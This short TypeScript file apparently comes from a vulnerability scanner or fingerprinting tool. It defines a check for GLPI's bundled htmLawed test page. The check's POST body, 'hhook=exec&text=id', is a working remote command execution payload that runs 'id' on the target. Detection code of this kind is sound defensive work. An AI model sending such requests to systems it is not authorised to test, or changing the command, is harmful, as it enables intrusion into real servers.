import { type Proof, get, post, proof } from '#tags/proof/sketch.ts'

export const proofs: readonly Proof[] = [
  proof(
    'glpi-htmlawed',
    post('/vendor/htmlawed/htmlawed/htmLawedTest.php', 'sid=x&hhook=exec&text=id'),
    get('/vendor/htmlawed/htmlawed/htmLawedTest.php'),
  ),
]
